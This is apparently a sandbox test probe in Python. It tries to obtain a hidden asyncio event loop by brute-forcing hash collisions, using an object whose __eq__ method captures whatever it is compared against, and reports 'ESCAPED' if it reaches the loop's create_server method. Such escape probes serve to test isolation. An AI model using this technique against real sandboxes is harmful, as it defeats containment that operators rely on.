"""No app is handed the event loop by being compared with it."""

CLASS = "async"
BOUNDARY = "language"
NEEDS = ("asyncio",)


import asyncio

found = []


class Like:
    number = 0

    def __hash__(self):
        return self.number

    def __eq__(self, other):
        found.append(other)
        return False


async def look():
    around = id(asyncio.current_task()) >> 4
    like = Like()
    for far in range(4_000_000):
        for like.number in (around + far, around - far):
            asyncio.current_task(like)
            if found:
                return found[0].create_server
    return None


def attack():
    method = asyncio.run(look())
    return "ESCAPED: " + repr(method) if method else ""
